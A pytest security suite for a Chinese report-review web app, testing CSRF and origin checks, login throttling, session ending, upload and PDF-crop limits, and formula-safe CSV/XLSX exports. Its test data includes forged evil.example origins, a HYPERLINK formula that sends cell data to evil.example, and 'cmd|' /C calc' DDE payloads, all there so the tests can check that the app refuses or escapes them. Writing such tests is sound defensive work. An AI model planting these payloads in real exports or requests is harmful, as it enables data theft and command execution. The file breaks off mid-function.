"""The web app against hostile clients (issue 11): same-origin and CSRF checks on every
state-changing request, anonymous access read-only and ``--private``, login throttling,
sessions that end on logout and on a password change, cookie flags, uploads counted on
the bytes received and a bounded queue, per-file budgets, bounded PDF crops, streamed and
cancellable exports that never write a live formula."""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import json
import threading
import time
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("fastapi")
pytest.importorskip("httpx")

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

from sqlalchemy import update  # noqa: E402
from sqlalchemy.orm import Session  # noqa: E402

from nianbao.store import export as sx  # noqa: E402
from nianbao.store.compact import decode_field, provenance_dict  # noqa: E402
from nianbao.store.models import SourceBlob, SourceFile, StoredCells, StoredReport  # noqa: E402
from nianbao.store.queries import stored_cells  # noqa: E402
from nianbao.web import services as sv  # noqa: E402
from nianbao.web.app import create_app  # noqa: E402
from nianbao.web.auth import COOKIE_NAME, CSRF_COOKIE, LoginThrottle  # noqa: E402

SAMPLES = Path(__file__).resolve().parents[2] / "shared" / "samples"
PEER = SAMPLES / "peer"
pytestmark = pytest.mark.skipif(not SAMPLES.is_dir(), reason="shared samples not found")

USER, PASSWORD = "审核员", "correct horse"
ORIGIN = "http://testserver"


def _wait(client: TestClient, job_id: str, timeout: float = 120.0) -> dict:
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        job = client.get(f"/api/v1/uploads/{job_id}").json()
        if job["done"]:
            return job
        time.sleep(0.05)
    raise AssertionError("upload job did not finish")


def _token(client: TestClient) -> str:
    token = client.get("/api/v1/me").json()["csrf_token"]
    assert token and token == client.cookies.get(CSRF_COOKIE)
    return token


def _log_in(client: TestClient, name: str = USER, password: str = PASSWORD) -> str:
    """Origin and CSRF header on every later request, then the login; the session cookie."""
    client.headers.update({"Origin": ORIGIN, "X-CSRF-Token": _token(client)})
    r = client.post("/api/v1/login", json={"name": name, "password": password})
    assert r.status_code == 200, r.text
    return str(client.cookies.get(COOKIE_NAME))


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Any, TestClient, dict]]:
    db = tmp_path_factory.mktemp("web-sec") / "sec.db"
    app = create_app(str(db), max_file_bytes=1024 * 1024, max_files=10)
    app.state.web.users.add(USER, PASSWORD)
    with TestClient(app) as client:
        _log_in(client)
        paths = [sorted(SAMPLES.glob("*.txt"))[0], PEER / "hongze-2023.pdf"]
        files = [("files", (p.name, p.read_bytes())) for p in paths]
        r = client.post("/api/v1/uploads", files=files)
        assert r.status_code == 202, r.text
        job = _wait(client, r.json()["id"])
        assert [f["status"] for f in job["files"]] == ["stored", "stored"]
        ids = {f["name"]: f["report_id"] for f in job["files"]}
        yield app, client, {"txt": ids[paths[0].name], "pdf": ids["hongze-2023.pdf"]}
    app.state.web.engine.dispose()


def _anon(app: Any) -> TestClient:
    """A second client of the same app, with no cookies."""
    return TestClient(app)


def _a_finding(client: TestClient, rid: int) -> int:
    return int(client.get(f"/api/v1/reports/{rid}").json()["findings"][0]["id"])


# ------------------------------------------------------------------ same origin + CSRF
def test_api_writes_need_same_origin_and_csrf_token(site: tuple[Any, TestClient, dict]) -> None:
    app, client, ids = site
    fid = _a_finding(client, ids["txt"])
    url = f"/api/v1/findings/{fid}/review"
    body = {"status": "open"}
    token = client.headers["X-CSRF-Token"]
    cases = [
        ({"Origin": "http://evil.example"}, "不是本站"),
        ({"Origin": "null"}, "来源"),
        ({"Origin": "", "Referer": ""}, "来源"),  # neither: refused
        ({"Origin": "http://testserver.evil.example"}, "不是本站"),
        ({"X-CSRF-Token": ""}, "CSRF"),
        ({"X-CSRF-Token": token[:-2] + "xx"}, "CSRF"),
    ]
    for headers, word in cases:
        h = {"origin": ORIGIN, "x-csrf-token": token}
        h.update({k.lower(): v for k, v in headers.items()})
        h = {k: v for k, v in h.items() if v != ""}
        client.headers.clear()
        client.headers.update(h)
        try:
            for r in (
                client.post(url, json=body),
                client.post(f"/api/v1/reports/{ids['txt']}/recheck"),
                client.post("/api/v1/uploads", files=[("files", ("a.txt", b"x"))]),
            ):
                assert r.status_code == 403, (headers, r.text)
                assert word in r.json()["error"]
        finally:
            client.headers.clear()
            client.headers.update({"Origin": ORIGIN, "X-CSRF-Token": token})
    # two Origin headers (no browser sends that) are refused too
    r = client.post(url, json=body, headers=[("Origin", ORIGIN), ("Origin", "http://evil.example")])
    assert r.status_code == 403
    # a Referer of this site stands for a missing Origin
    r = client.post(
        url, json=body, headers={"Origin": "", "Referer": f"{ORIGIN}/reports/{ids['txt']}"}
    )
    assert r.status_code == 403  # an empty Origin header is no origin
    h = {"Referer": f"{ORIGIN}/reports/{ids['txt']}", "X-CSRF-Token": token}
    client.headers.pop("Origin")
    try:
        assert client.post(url, json=body, headers=h).status_code == 200
    finally:
        client.headers["Origin"] = ORIGIN
    assert client.post(url, json=body).status_code == 200


def test_a_token_from_another_client_does_not_pass(site: tuple[Any, TestClient, dict]) -> None:
    app, client, ids = site
    other = _anon(app)
    theirs = _token(other)
    fid = _a_finding(client, ids["txt"])
    r = client.post(
        f"/api/v1/findings/{fid}/review", json={"status": "open"}, headers={"X-CSRF-Token": theirs}
    )
    assert r.status_code == 403
    # a forged token of the right shape but without the server's signature, in both places
    with _anon(app) as forger:
        forger.cookies.set(CSRF_COOKIE, "abc.def")
        r = forger.post(
            f"/api/v1/findings/{fid}/review",
            json={"status": "open"},
            headers={"Origin": ORIGIN, "X-CSRF-Token": "abc.def"},
        )
        assert r.status_code == 403 and "CSRF" in r.json()["error"]


def test_forms_carry_the_token_and_refuse_cross_site_posts(
    site: tuple[Any, TestClient, dict],
) -> None:
    app, client, ids = site
    page = client.get(f"/reports/{ids['txt']}").text
    token = client.cookies.get(CSRF_COOKIE)
    assert f'<meta name="csrf-token" content="{token}">' in page
    assert f'name="csrf_token" value="{token}"' in page  # review, re-check, logout forms
    assert page.count(f'name="csrf_token" value="{token}"') >= 3
    upload = client.get("/upload").text
    assert f'name="csrf_token" value="{token}"' in upload
    fid = _a_finding(client, ids["txt"])
    # a plain form post (no header): the hidden field is the token
    bare = {"Origin": ORIGIN}
    saved = dict(client.headers)
    client.headers.clear()
    try:
        r = client.post(
            f"/findings/{fid}/review",
            data={"status": "open", "csrf_token": token},
            headers=bare,
            follow_redirects=False,
        )
        assert r.status_code == 303
        for headers, data in (
            ({"Origin": "null"}, {"status": "open", "csrf_token": token}),
            ({}, {"status": "open", "csrf_token": token}),  # no Origin, no Referer
            ({"Origin": "http://evil.example"}, {"status": "open", "csrf_token": token}),
            (bare, {"status": "open"}),  # no token
            (bare, {"status": "open", "csrf_token": "x.y"}),
        ):
            r = client.post(f"/findings/{fid}/review", data=data, headers=headers)
            assert r.status_code == 403, (headers, data)
            assert "已拒绝" in r.text and "<html" in r.text
            r = client.post(f"/reports/{ids['txt']}/recheck", data=data, headers=headers)
            assert r.status_code == 403
            r = client.post("/logout", data=data, headers=headers)
            assert r.status_code == 403
        # the no-script upload form: the token is a field of the multipart body
        sample = sorted(SAMPLES.glob("*.txt"))[0].read_bytes()
        r = client.post(
            "/upload",
            data={"csrf_token": token},
            files=[("files", ("form.txt", sample))],
            headers=bare,
            follow_redirects=False,
        )
        assert r.status_code == 303 and r.headers["location"].startswith("/upload/jobs/")
        _wait(client, r.headers["location"].rsplit("/", 1)[1])
        r = client.post("/upload", files=[("files", ("form.txt", sample))], headers=bare)
        assert r.status_code == 403
    finally:
        client.headers.update(saved)


def test_first_page_of_a_new_client_carries_its_new_token(
    site: tuple[Any, TestClient, dict],
) -> None:
    app, _, _ = site
    with _anon(app) as c:
        r = c.get("/login")
        cookie = _set_cookie_headers(r, CSRF_COOKIE)
        token = cookie.split(";", 1)[0].split("=", 1)[1]
        assert "httponly" in cookie.lower() and "samesite=strict" in cookie.lower()
        assert f'name="csrf_token" value="{token}"' in r.text
        # the same token stays for later pages (no new cookie)
        again = c.get("/login")
        assert not [h for h in again.headers.get_list("set-cookie") if CSRF_COOKIE in h]
        assert f'name="csrf_token" value="{token}"' in again.text


def test_login_itself_needs_origin_and_token(site: tuple[Any, TestClient, dict]) -> None:
    app, _, _ = site
    with _anon(app) as c:
        r = c.post("/api/v1/login", json={"name": USER, "password": PASSWORD})
        assert r.status_code == 403
        r = c.post("/login", data={"name": USER, "password": PASSWORD}, headers={"Origin": ORIGIN})
        assert r.status_code == 403  # no token
        token = _token(c)
        r = c.post(
            "/login",
            data={"name": USER, "password": PASSWORD, "csrf_token": token},
            headers={"Origin": ORIGIN},
            follow_redirects=False,
        )
        assert r.status_code == 303


def test_http_basic_scripts_need_no_token(site: tuple[Any, TestClient, dict]) -> None:
    app, client, ids = site
    basic = base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()
    fid = _a_finding(client, ids["txt"])
    with _anon(app) as c:
        r = c.post(
            f"/api/v1/findings/{fid}/review",
            json={"status": "open"},
            headers={"Authorization": f"Basic {basic}"},
        )
        assert r.status_code == 200
        wrong = base64.b64encode(f"{USER}:nope".encode()).decode()
        r = c.post(
            f"/api/v1/findings/{fid}/review",
            json={"status": "open"},
            headers={"Authorization": f"Basic {wrong}"},
        )
        assert r.status_code == 403  # not logged in, so the cross-site checks apply


# ------------------------------------------------------------------ anonymous, private
def test_anonymous_access_is_read_only_even_without_users(tmp_path: Path) -> None:
    app = create_app(str(tmp_path / "nousers.db"))
    assert not app.state.web.users.any_users()
    with TestClient(app) as c:
        c.headers.update({"Origin": ORIGIN, "X-CSRF-Token": _token(c)})
        for r in (
            c.post("/api/v1/uploads", files=[("files", ("a.txt", b"x"))]),
            c.post("/api/v1/findings/1/review", json={"status": "open"}),
            c.post("/api/v1/reports/1/recheck"),
        ):
            assert r.status_code == 401 and "登录" in r.json()["error"]
        assert c.post("/findings/1/review", data={"status": "open"}).status_code == 401
        assert c.post("/upload", files=[("files", ("a.txt", b"x"))]).status_code == 401
        assert c.get("/").status_code == 200
        assert "上传需要先" in c.get("/upload").text
        assert c.get("/api/v1/health").json()["login_required"] is True
        assert c.get("/api/v1/export/reports?format=csv").status_code == 200
    app.state.web.engine.dispose()


def test_private_server_shows_nothing_without_a_login(tmp_path: Path) -> None:
    app = create_app(str(tmp_path / "private.db"), private=True)
    app.state.web.users.add(USER, PASSWORD)
    with TestClient(app) as c:
        for path in ("/", "/reports", "/export/values.csv", "/reports/1/pdf/a.png", "/upload"):
            r = c.get(path, follow_redirects=False)
            assert r.status_code == 303, path
            assert r.headers["location"].startswith("/login?next=")
        for path in (
            "/api/v1/reports",
            "/api/v1/health",
            "/api/v1/export/values?format=xlsx",
            "/api/v1/openapi.json",
        ):
            r = c.get(path)
            assert r.status_code == 401 and "登录" in r.json()["error"], path
        assert c.get("/login").status_code == 200
        assert "需要登录后才能浏览" in c.get("/login").text
        assert c.get("/static/app.css").status_code == 200
        _log_in(c)
        assert c.get("/").status_code == 200
        assert c.get("/api/v1/health").json()["private"] is True
        assert c.get("/api/v1/export/values?format=csv").status_code == 200
        c.post("/api/v1/logout")
        assert c.get("/api/v1/reports").status_code == 401
    app.state.web.engine.dispose()


def test_serve_options() -> None:
    from click.testing import CliRunner

    from nianbao.cli.web import serve

    out = CliRunner().invoke(serve, ["--help"]).output
    for option in ("--private", "--trust-proxy", "--max-queue", "--file-seconds"):
        assert option in out


# ------------------------------------------------------------------ login and sessions
def test_login_is_throttled_per_account(tmp_path: Path) -> None:
    app = create_app(str(tmp_path / "throttle.db"), trust_proxy=True)
    app.state.web.users.add(USER, PASSWORD)
    with TestClient(app) as c:
        c.headers.update({"Origin": ORIGIN, "X-CSRF-Token": _token(c)})
        for i in range(5):  # from five addresses: the account counts them all
            r = c.post(
                "/api/v1/login",
                json={"name": USER, "password": f"wrong-{i}"},
                headers={"X-Forwarded-For": f"10.0.0.{i}"},
            )
            assert r.status_code == 401
        r = c.post(
            "/api/v1/login",
            json={"name": USER, "password": PASSWORD},
            headers={"X-Forwarded-For": "10.0.0.99"},
        )
        assert r.status_code == 429
        assert "登录失败次数过多" in r.json()["error"] and int(r.headers["Retry-After"]) > 0
        # the login page says the same, in Chinese
        r = c.post(
            "/login",
            data={"name": USER, "password": PASSWORD},
            headers={"X-Forwarded-For": "10.0.0.98"},
        )
        assert r.status_code == 429 and "登录失败次数过多" in r.text
        # HTTP Basic goes through the same throttle
        basic = base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()
        r = c.get("/api/v1/me", headers={"Authorization": f"Basic {basic}"})
        assert r.status_code == 429
        assert c.get("/api/v1/me").json()["user"] is None
    app.state.web.engine.dispose()


def test_login_is_throttled_per_address(tmp_path: Path) -> None:
    app = create_app(str(tmp_path / "throttle2.db"))
    app.state.web.users.add(USER, PASSWORD)
    with TestClient(app) as c:
        c.headers.update({"Origin": ORIGIN, "X-CSRF-Token": _token(c)})
        for i in range(5):  # five accounts guessed from one address
            r = c.post("/api/v1/login", json={"name": f"user{i}", "password": "guess-guess"})
            assert r.status_code == 401
        r = c.post("/api/v1/login", json={"name": USER, "password": PASSWORD})
        assert r.status_code == 429
    app.state.web.engine.dispose()


def test_throttle_delay_grows_and_expires() -> None:
    now = [1000.0]
    t = LoginThrottle(max_failures=5, window=900, base_delay=30, clock=lambda: now[0])
    keys = ["user:a"]
    for _ in range(4):
        t.failed(keys)
    assert t.retry_after(keys) == 0
    t.failed(keys)
    first = t.retry_after(keys)
    assert first == 30
    now[0] += 31
    assert t.retry_after(keys) == 0
    t.failed(keys)  # the sixth failure in the window: a longer wait
    assert t.retry_after(keys) == 60
    now[0] += 61
    t.failed(keys)
    assert t.retry_after(keys) == 120
    t.succeeded(keys)
    assert t.retry_after(keys) == 0
    for _ in range(4):
        t.failed(keys)
    now[0] += 1000  # failures older than the window are forgotten
    t.failed(keys)
    assert t.retry_after(keys) == 0


def test_logout_ends_the_session_on_the_server(tmp_path: Path) -> None:
    app = create_app(str(tmp_path / "logout.db"))
    app.state.web.users.add(USER, PASSWORD)
    with TestClient(app) as c:
        cookie = _log_in(c)
        assert c.get("/api/v1/me").json()["user"] == USER
        assert c.post("/api/v1/logout").status_code == 200
        with _anon(app) as thief:  # the old cookie, replayed
            thief.cookies.set(COOKIE_NAME, cookie)
            assert thief.get("/api/v1/me").json()["user"] is None
        # the page form logs out too
        cookie = _log_in(c)
        r = c.post("/logout", data={}, follow_redirects=False)
        assert r.status_code == 303
        with _anon(app) as thief:
            thief.cookies.set(COOKIE_NAME, cookie)
            assert thief.get("/api/v1/me").json()["user"] is None
    app.state.web.engine.dispose()


def test_password_change_ends_sessions(tmp_path: Path) -> None:
    users_file = tmp_path / "users.json"
    app = create_app(str(tmp_path / "pw.db"), users_file=users_file)
    app.state.web.users.add(USER, PASSWORD)
    with TestClient(app) as c:
        cookie = _log_in(c)
        assert c.get("/api/v1/me").json()["user"] == USER
        # the administrator sets a new password (the CLI writes the same users file)
        from nianbao.web.auth import UserStore

        UserStore(None, users_file).add(USER, "a new password")
        assert c.get("/api/v1/me").json()["user"] is None
        with _anon(app) as thief:
            thief.cookies.set(COOKIE_NAME, cookie)
            assert thief.get("/api/v1/me").json()["user"] is None
        _log_in(c, USER, "a new password")
        assert c.get("/api/v1/me").json()["user"] == USER
    app.state.web.engine.dispose()


def _set_cookie_headers(r: Any, name: str) -> str:
    return next(h for h in r.headers.get_list("set-cookie") if h.startswith(name + "="))


def test_cookie_flags(tmp_path: Path) -> None:
    app = create_app(str(tmp_path / "cookies.db"))
    app.state.web.users.add(USER, PASSWORD)
    with TestClient(app) as c:
        c.headers.update({"Origin": ORIGIN, "X-CSRF-Token": _token(c)})
        r = c.post("/api/v1/login", json={"name": USER, "password": PASSWORD})
        h = _set_cookie_headers(r, COOKIE_NAME).lower()
        assert "httponly" in h and "samesite=lax" in h and "secure" not in h
        # X-Forwarded-Proto is not believed without --trust-proxy
        r = c.post(
            "/api/v1/login",
            json={"name": USER, "password": PASSWORD},
            headers={"X-Forwarded-Proto": "https"},
        )
        assert "secure" not in _set_cookie_headers(r, COOKIE_NAME).lower()
    with TestClient(app, base_url="https://testserver") as c:
        first = c.get("/api/v1/me")
        assert "secure" in _set_cookie_headers(first, CSRF_COOKIE).lower()
        token = first.json()["csrf_token"]
        c.headers.update({"Origin": "https://testserver", "X-CSRF-Token": token})
        r = c.post("/api/v1/login", json={"name": USER, "password": PASSWORD})
        h = _set_cookie_headers(r, COOKIE_NAME).lower()
        assert "secure" in h and "httponly" in h and "samesite=lax" in h
    app.state.web.engine.dispose()
    proxied = create_app(str(tmp_path / "cookies.db"), trust_proxy=True)
    proxied.state.web.users.add(USER, PASSWORD)
    with TestClient(proxied) as c:
        c.headers.update({"Origin": ORIGIN, "X-CSRF-Token": _token(c)})
        r = c.post(
            "/api/v1/login",
            json={"name": USER, "password": PASSWORD},
            headers={"X-Forwarded-Proto": "https"},
        )
        assert "secure" in _set_cookie_headers(r, COOKIE_NAME).lower()
    proxied.state.web.engine.dispose()


# ------------------------------------------------------------------ uploads
def test_chunked_upload_is_counted_on_bytes_received(site: tuple[Any, TestClient, dict]) -> None:
    app, client, _ = site
    limits = app.state.web.limits
    boundary = "nianbaoboundary"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="big.txt"\r\n'
        "Content-Type: text/plain\r\n\r\n"
    ).encode()
    sent = [0]

    def body() -> Iterator[bytes]:
        yield head
        block = b"a" * 65536
        for _ in range(limits.body_bytes // len(block) + 20):
            sent[0] += len(block)
            yield block
        yield f"\r\n--{boundary}--\r\n".encode()

    r = client.post(
        "/api/v1/uploads",
        content=body(),
        headers={"Content-Type": f"multipart/form-data; boundary={boundary}"},
    )
    assert r.status_code == 413, r.text
    msg = r.json()["error"]
    assert sv.size_text(limits.max_total_bytes) in msg and "合计上限" in msg
    assert "Content-Length" not in r.request.headers  # it was chunked


def test_oversized_file_message_states_its_real_size(tmp_path: Path) -> None:
    app = create_app(str(tmp_path / "size.db"), max_file_bytes=100_000)
    app.state.web.users.add(USER, PASSWORD)
    with TestClient(app) as c:
        _log_in(c)
        r = c.post("/api/v1/uploads", files=[("files", ("big.txt", b"x" * 300_000))])
        assert r.status_code == 202
        f = r.json()["files"][0]
        assert f["status"] == "rejected" and f["size"] == 300_000
        assert "293 KB" in f["message"] and "98 KB" in f["message"]
    app.state.web.engine.dispose()


def test_upload_queue_is_bounded(tmp_path: Path) -> None:
    app = create_app(str(tmp_path / "queue.db"), max_queued_files=3)
    app.state.web.users.add(USER, PASSWORD)
    jobs = app.state.web.jobs
    data = sorted(SAMPLES.glob("*.txt"))[0].read_bytes()
    with TestClient(app) as c:
        _log_in(c)
        # four files do not fit in a queue of three
        files = [("files", (f"r{i}.txt", data + str(i).encode())) for i in range(4)]
        r = c.post("/api/v1/uploads", files=files)
        assert r.status_code == 503 and "队列已满" in r.json()["error"]
        # a queue already full refuses before reading the body
        with jobs._lock:
            jobs.queued_files = 3
        try:
            r = c.post("/api/v1/uploads", files=files[:1])
            assert r.status_code == 503 and "队列已满" in r.json()["error"]
        finally:
            with jobs._lock:
                jobs.queued_files = 0
        r = c.post("/api/v1/uploads", files=files[:2])
        assert r.status_code == 202
        job = _wait(c, r.json()["id"])
        assert [f["status"] for f in job["files"]] == ["stored", "stored"]
        assert jobs.queued_files == 0 and jobs.queued_bytes == 0
        assert list(jobs.spool_dir().iterdir()) == []  # the spooled copies are gone
    app.state.web.engine.dispose()


def test_run_with_budget_stops_a_runaway_task() -> None:
    with pytest.raises(sv.BudgetExceeded, match="时间上限"):
        sv.run_with_budget(time.sleep, (60,), seconds=0.5)
    assert sv.run_with_budget(divmod, (7, 2), seconds=60) == (3, 1)


def test_upload_worker_reports_a_file_over_its_time_budget(tmp_path: Path) -> None:
    app = create_app(str(tmp_path / "budget.db"), file_seconds=0.001)
    app.state.web.users.add(USER, PASSWORD)
    with TestClient(app) as c:
        _log_in(c)
        data = sorted(SAMPLES.glob("*.txt"))[0].read_bytes()
        r = c.post("/api/v1/uploads", files=[("files", ("slow.txt", data))])
        job = _wait(c, r.json()["id"])
        f = job["files"][0]
        # stopped by the readers' own timer (unusable) or killed by the worker (failed)
        assert f["status"] in ("failed", "unusable") and "时间上限" in f["message"], f
        problems = c.get("/api/v1/files/problems").json()["items"]
        assert any(
            p["name"] == "slow.txt" and "BudgetExceeded" in (p["error_kind"] or "")
            for p in problems
        )
    app.state.web.engine.dispose()


# ------------------------------------------------------------------ PDF crops
def test_crop_window_is_bounded() -> None:
    huge = sv.crop_window(14_400, 14_400, [7000, 7000, 7100, 7020])
    assert huge is not None
    left, top, right, bottom, scale = huge
    assert right - left <= sv.CROP_MAX_POINTS and bottom - top <= sv.CROP_MAX_POINTS
    assert (right - left) * (bottom - top) * scale**2 <= sv.CROP_MAX_PIXELS + 1
    assert left <= 7000 and right >= 7100 and top <= 7000 and bottom >= 7020
    # a box as tall as the page is cut to the window
    tall = sv.crop_window(14_400, 14_400, [0, 0, 14_400, 14_400])
    assert tall is not None and tall[3] - tall[1] <= sv.CROP_MAX_POINTS
    # an ordinary page: the whole width at 2x
    a4 = sv.crop_window(595, 842, [100, 400, 150, 412])
    assert a4 is not None and a4[0] == 0 and a4[2] == 595 and a4[4] == 2.0
    for bad in ([1, 2, 3], ["x", 0, 1, 1], [0, 0, float("nan"), 1], [900, 0, 950, 10], None):
        assert sv.crop_window(595, 842, bad) is None  # type: ignore[arg-type]


def _huge_pdf() -> bytes:
    import pypdfium2 as pdfium

    pdf = pdfium.PdfDocument.new()
    pdf.new_page(14_400, 14_400)
    buf = io.BytesIO()
    pdf.save(buf)
    pdf.close()
    return buf.getvalue()


def test_pdf_crop_of_a_huge_page_is_bounded(site: tuple[Any, TestClient, dict]) -> None:
    from PIL import Image

    app, client, ids = site
    st = app.state.web
    rid, fid = ids["pdf"], "reviews.reconsideration.total"
    with Session(st.engine) as s:
        rep = s.get(StoredReport, rid)
        assert rep is not None
        sf = s.get(SourceFile, rep.source_file_id)
        assert sf is not None
        sha = sf.sha256
        blob = s.get(SourceBlob, sha)
        assert blob is not None
        original = blob.data
        prov = dict(provenance_dict(_cell(s, rid, fid)[5]) or {})
        saved_cells = _cells_text(s, rid)
    normal = client.get(f"/reports/{rid}/pdf/{fid}.png")
    assert normal.status_code == 200
    try:
        with Session(st.engine) as s, s.begin():
            s.execute(update(SourceBlob).where(SourceBlob.sha256 == sha).values(data=_huge_pdf()))
            _edit_cell(s, rid, fid, 4, {**prov, "page": 1, "bbox": [7000, 7000, 7100, 7020]})
        with _anon(app) as anon:  # anonymous reading stays open, and bounded
            r = anon.get(f"/reports/{rid}/pdf/{fid}.png")
        assert r.status_code == 200 and r.content.startswith(b"\x89PNG")
        image = Image.open(io.BytesIO(r.content))
        w, h = image.size
        assert w * h <= sv.CROP_MAX_PIXELS + 2 * (w + h)
        assert w <= 2 * sv.CROP_MAX_POINTS and h <= 2 * sv.CROP_MAX_POINTS
        # the whole page at 2x would have been 28,800 pixels wide
        assert w < 28_800 / 4
    finally:
        with Session(st.engine) as s, s.begin():
            s.execute(update(SourceBlob).where(SourceBlob.sha256 == sha).values(data=original))
            _set_cells_text(s, rid, saved_cells)


def test_pdf_crops_are_limited_in_number_at_once(site: tuple[Any, TestClient, dict]) -> None:
    app, client, ids = site
    st = app.state.web
    taken = 0
    wait = st.pdf_wait
    st.pdf_wait = 0.01
    try:
        while st.pdf_slots.acquire(blocking=False):
            taken += 1
        assert taken >= 1
        r = client.get(f"/reports/{ids['pdf']}/pdf/reviews.reconsideration.total.png")
        assert r.status_code == 503 and "服务器正忙" in r.text
    finally:
        for _ in range(taken):
            st.pdf_slots.release()
        st.pdf_wait = wait
    r = client.get(f"/reports/{ids['pdf']}/pdf/reviews.reconsideration.total.png")
    assert r.status_code == 200


# ------------------------------------------------------------------ exports
def test_exports_never_write_a_live_formula(site: tuple[Any, TestClient, dict]) -> None:
    from openpyxl import load_workbook

    app, client, ids = site
    st = app.state.web
    rid = ids["txt"]
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    with Session(st.engine) as s:
        old = s.get(StoredReport, rid)
        assert old is not None
        saved = (old.agency_name, old.title)
        value = next(c for c in stored_cells(s, rid) if c[1] is not None)
        saved_value = (value[0], value[1], value[4])
        saved_cells = _cells_text(s, rid)
    try:
        with Session(st.engine) as s, s.begin():
            s.execute(
                update(StoredReport)
                .where(StoredReport.id == rid)
                .values(agency_name=evil, title="@SUM(1+1)*cmd|' /C calc'!A0")
            )
            _edit_cell(s, rid, saved_value[0], 1, -5)
            _edit_cell(s, rid, saved_value[0], 3, "-2+3+cmd|' /C calc'!A0")
        year = client.get(f"/api/v1/reports/{rid}").json()["report"]["year"]
        # CSV: the text cells escaped, the negative number a number
        text = client.get(f"/export/values.csv?year={year}").content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        mine = [r for r in rows[1:] if r[0] == str(rid)]
        assert mine and all(r[1] == "'" + evil for r in mine)
        cell = next(r for r in mine if r[3] == saved_value[0])
        assert cell[5] == "-5" and cell[7] == "'-2+3+cmd|' /C calc'!A0"
        wide = client.get(f"/api/v1/export/reports?format=csv&year={year}").content
        wrows = list(csv.reader(io.StringIO(wide.decode("utf-8-sig"))))
        row = next(r for r in wrows if r[0] == str(rid))
        assert row[1] == "'" + evil and row[5].startswith("'@SUM")
        assert not any(c.startswith(("=", "@", "+")) for r in wrows for c in r)
        # XLSX: no formula cell anywhere; the number stays a number
        for what in ("values", "reports", "findings", "agencies"):
            data = client.get(f"/export/{what}.xlsx?year={year}").content
            wb = load_workbook(io.BytesIO(data))
            for ws in wb.worksheets:
                for r in ws.iter_rows():
                    for c in r:
                        assert c.data_type != "f", (what, c.coordinate, c.value)
                        if isinstance(c.value, str):
                            assert not c.value.startswith(("=", "@", "+")), (what, c.value)
        wb = load_workbook(io.BytesIO(client.get(f"/export/values.xlsx?year={year}").content))
        ws = wb.worksheets[0]
        mine_x = [r for r in ws.iter_rows(min_row=2, values_only=True) if r[0] == rid]
        assert mine_x and mine_x[0][1] == "'" + evil
        num = next(r for r in mine_x if r[3] == saved_value[0])
        assert num[5] == -5 and isinstance(num[5], int)
        agencies = client.get("/api/v1/export/agencies?format=csv").content.decode("utf-8-sig")
        assert evil not in agencies.replace("'" + evil, "")
    finally:
        with Session(st.engine) as s, s.begin():
            s.execute(
                update(StoredReport)
                .where(StoredReport.id == rid)
                .values(agency_name=saved[0], title=saved[1])
            )
            _set_cells_text(s, rid, saved_cells)


def _cells_text(s: Session, rid: int) -> tuple[str, str | None]:
    row = s.get(StoredCells, rid)
    assert row is not None
    return row.cells, row.sources


def _set_cells_text(s: Session, rid: int, saved: tuple[str, str | None]) -> None:
    s.execute(
        update(StoredCells)
        .where(StoredCells.report_id == rid)
        .values(cells=saved[0], sources=saved[1])
    )


def _cell(s: Session, rid: int, fid: str) -> Any:
    return next(c for c in stored_cells(s, rid) if c[0] == fid)


def _edit_cell(s: Session, rid: int, fid: str, index: int, value: Any) -> None:
    """Change one position of a stored cell (``[code, value_int, value_dec, raw]``, and 4:
    its provenance, in the sources' list at the cell's place)."""
    text, sources = _cells_text(s, rid)
    cells = json.loads(text)
    at = next(i for i, cell in enumerate(cells) if decode_field(cell[0]) == fid)
    if index == 4:
        data = json.loads(sources or "{}")
        provs = data.setdefault("p", [])
        provs.extend([None] * (len(cells) - len(provs)))
        provs[at] = value
        sources = json.dumps(data, ensure_ascii=False)
    else:
        cells[at].extend([None] * (4 - len(cells[at])))
        cells[at][index] = value
    _set_cells_text(s, rid, (json.dumps(cells, ensure_ascii=False), sources))


def test_escape_formula() -> None:
    for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-2+3+cmd|' /C calc'!A0"):
        assert sx.escape_formula(text) == "'" + text
    for text in ("-5", "+3.25", "-1,234.5", "-", "+", "", "机关", "12%", "'=x"):
        assert sx.escape_formula(text) == text


def test_csv_export_streams_without_reading_every_row() -> None:
    consumed = [0]

    def endless() -> Iterator[list[Any]]:
        while True:
            consumed[0] += 1
            yield [consumed[0], "机关" * 10, -1, "=1+1"]

    pieces = sx.csv_chunks(["编号", "机关", "数", "文本"], endless(), size=4096)
    first = next(pieces)
    assert first.startswith("\ufeff".encode()) and len(first) >= 4096
    assert consumed[0] < 1000  # produced as it goes, not all first
    assert b"'=1+1" in first and b",-1," in first
    stop = [False]
    rows = sx.csv_chunks(["a"], ([i] for i in range(10**9)), cancel=lambda: stop[0], size=10)
    next(rows)
    stop[0] = True
    with pytest.raises(sx.ExportCancelled):
        for _ in rows:
            pass


class _GoneClient:
    """A request whose client has gone after ``after`` checks."""

    def __init__(self, after: int) -> None:
        self.after = after

    async def is_disconnected(self) -> bool:
        self.after -= 1
        return self.after < 0


def test_export_producer_stops_when_the_client_goes() -> None:
    from nianbao.web.api import pump

    produced = [0]
    stopped = threading.Event()
    slot = threading.BoundedSemaphore(1)
    slot.acquire()

    def produce(cancelled: Any) -> Iterator[bytes]:
        try:
            while True:
                if cancelled():
                    raise sx.ExportCancelled
                produced[0] += 1
                yield b"x" * 1024
        finally:
            stopped.set()

    async def consume() -> int:
        got = 0
        async for _ in pump(_GoneClient(after=3), produce, slot, poll=0.001):  # type: ignore[arg-type]
            got += 1
        return got

    asyncio.run(consume())
    assert stopped.wait(30), "the producer kept running after the client went away"
    assert slot.acquire(timeout=30)  # the slot was given back
    assert produced[0] < 100


def test_export_through_the_app_stops_on_disconnect(site: tuple[Any, TestClient, dict]) -> None:
    app, _, _ = site
    st = app.state.web
    messages: list[dict] = []

    async def run() -> None:
        sent_request = False

        async def receive() -> dict:
            nonlocal sent_request
            if not sent_request:
                sent_request = True
